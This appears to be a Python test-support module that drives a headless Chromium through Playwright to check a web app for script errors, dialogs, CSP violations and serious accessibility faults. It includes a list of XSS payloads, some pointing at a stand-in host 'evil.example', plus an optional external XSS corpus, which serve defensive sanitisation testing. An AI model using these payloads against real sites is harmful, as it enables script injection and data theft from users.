"""A real Chromium for the tests that need one; where there is none they say so and are left out."""

import contextlib
import os
import shutil
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Browser, Page, async_playwright

FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
WATCH = """
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
        window.violations.push(event.violatedDirective + ' ' + event.blockedURI);
    });
"""


def chromium() -> str | None:
    named = os.environ.get("REKINDLE_CHROMIUM")
    return named or shutil.which("chromium") or shutil.which("chromium-browser")


needs_chromium = pytest.mark.skipif(chromium() is None, reason="Chromium is not installed")


@contextlib.asynccontextmanager
async def browsing() -> AsyncIterator[Browser]:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=chromium(), args=FLAGS)
        try:
            yield browser
        finally:
            await browser.close()


async def page_of(browser: Browser, **options: Any) -> Page:
    """A page that keeps account of what must not happen: script errors, dialogs, broken policies."""
    page = await (await browser.new_context(**options)).new_page()
    await page.add_init_script(WATCH)
    page.faults = []  # type: ignore[attr-defined]
    page.on("pageerror", lambda error: page.faults.append(f"error: {error}"))  # type: ignore[attr-defined]

    async def on_dialog(dialog: Any) -> None:
        page.faults.append(f"dialog: {dialog.message}")  # type: ignore[attr-defined]
        await dialog.dismiss()

    page.on("dialog", on_dialog)
    return page


async def faults(page: Page) -> list[str]:
    return [*page.faults, *(await page.evaluate("window.violations ?? []"))]  # type: ignore[attr-defined]


async def grave(page: Page) -> list[str]:
    """What axe finds serious or critical on the page as it stands, with the first place of each."""
    found = await Axe().run(page)
    return [
        f"{one['id']}: {one['nodes'][0]['html'][:120]}"
        for one in found.response["violations"]
        if one["impact"] in ("serious", "critical")
    ]


def payloads(most: int) -> list[str]:
    """Markup that tries to run: a few of our own, and the corpus where it lies beside the repository."""
    own = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        '"><script>alert(1)</script>',
        "</textarea><script>alert(1)</script>",
        "javascript:alert(1)",
        "<iframe srcdoc='<script>parent.alert(1)</script>'>",
        "<style>@import 'https://evil.example/x.css'</style>",
        "<a href='javascript:alert(1)'>press</a>",
        "{{constructor.constructor('alert(1)')()}}",
        "<base href='https://evil.example/'>",
        "<form action='https://evil.example/'><button>send</button></form>",
    ]
    corpus = Path(__file__).parents[3] / "shared" / "data" / "web_payloads" / "payloadbox_xss.txt"
    if corpus.is_file():
        lines = [
            line for line in corpus.read_text(encoding="utf-8", errors="replace").splitlines() if line.strip()
        ]
        own += lines[:: max(1, len(lines) // max(1, most - len(own)))]
    return own[:most]
